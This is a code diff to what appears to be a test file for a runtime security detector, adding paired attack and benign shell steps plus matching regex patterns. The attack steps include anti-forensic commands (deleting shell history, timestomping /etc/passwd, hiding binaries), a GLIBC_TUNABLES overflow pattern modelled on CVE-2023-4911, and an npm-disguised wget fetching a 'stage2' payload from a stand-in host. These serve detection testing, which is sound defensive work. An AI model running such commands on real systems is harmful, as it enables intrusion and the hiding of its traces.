@@ -186,6 +186,27 @@ export const CASES: Record<string, [Step, Step]> = {
   proc_pid_mount: [sh('mount --bind /tmp /proc/1'), x('cat', '/proc/1/status')],
   // The agent's socket is made first (unix-connect listens on a path that does not exist yet).
   ssh_agent_hijack: [sh('mkdir -p /tmp/ssh-XXXXa1b2 && eunomia-attack unix-connect /tmp/ssh-XXXXa1b2/agent.42'), x('eunomia-attack', 'unix-connect', '/tmp/ssh-notes.sock')],
+  // An applet the other cases do not use is moved aside.
+  binary_dir_modified: [sh('mv /bin/watch /bin/.watch; mkdir /usr/bin/.cache'), sh('echo x > /tmp/a; mv /tmp/a /tmp/b; mkdir /tmp/d')],
+  shell_history_deleted: [sh('rm -f /root/.ash_history; ln -s /dev/null /root/.ash_history'), sh('echo x > /tmp/h; rm /tmp/h; ln -s /dev/null /tmp/out')],
+  timestomp: [x('touch', '-r', '/bin/busybox', '/etc/passwd'), x('touch', '-r', '/bin/busybox', '/tmp/x.conf')],
+  device_node_created_in_container: [x('mknod', '/tmp/sda', 'b', '8', '0'), x('mknod', '/tmp/fifo', 'p')],
+  socket_filter_attached: [x('eunomia-attack', 'socket-filter'), x('eunomia-attack', 'sockopt')],
+  // Not /tmp/f: reverse_shell_fifo left a FIFO there, which a write would wait on forever.
+  xattr_payload_written: [sh('echo x > /tmp/xattr.txt; eunomia-attack setxattr /tmp/xattr.txt user.payload'), sh('echo x > /tmp/xattr.txt; eunomia-attack setxattr /tmp/xattr.txt system.posix_acl_access')],
+  // Wrong magic numbers (and no CAP_SYS_BOOT): the kernel refuses it, the attempt is the signal.
+  reboot_attempted: [x('eunomia-attack', 'reboot'), x('cat', '/proc/uptime')],
+  // CVE-2023-4911's shape (a tunable assigned to another); benign: an ordinary tunable.
+  glibc_tunables_overflow: [sh('GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAAAAAA /bin/true'), sh('GLIBC_TUNABLES=glibc.malloc.arena_max=2:glibc.malloc.tcache_count=0 /bin/true')],
+  writable_dir_in_path: [sh('mkdir -p /tmp/bin && env PATH=/tmp/bin:/usr/bin:/bin ls /'), sh('env PATH=/usr/local/bin:/usr/bin:/bin ls /')],
+  // `docker exec` starts tar from outside the container, as `kubectl cp` does; benign: a shell in
+  // the container archiving to a file.
+  container_files_copied_out: [x('tar', 'cf', '-', '/var/www'), sh('/bin/tar cf /tmp/www.tar /var/www')],
+  // An install script (a shell named npm) running a downloader, by its path so that it is exec'd.
+  network_tool_from_package_install: [
+    sh("echo -n npm > /proc/self/comm; sh -c '/bin/wget -q -T 1 -O /tmp/stage2 http://10.255.255.1/stage2; true'"),
+    sh("echo -n npm > /proc/self/comm; sh -c '/bin/ls /tmp > /dev/null; true'"),
+  ],
 };
 
 /**
@@ -197,6 +218,8 @@ export const FORMS: Record<string, RegExp[]> = {
   ssh_key_search: [/id_rsa/, /credentials/],
   cron_modified: [/\/var\/spool\/cron\/crontabs\/root/, /\/var\/spool\/at\//],
   credential_cache_read: [/\/var\/lib\/sss\/db\//, /\/tmp\/krb5cc_0/],
+  binary_dir_modified: [/rename.* \/bin\/watch \/bin\/\.watch /, /mkdir.* \/usr\/bin\/\.cache/],
+  shell_history_deleted: [/unlink.* \/root\/\.ash_history/, /symlink.* \/root\/\.ash_history \/dev\/null/],
 };
 
 /**
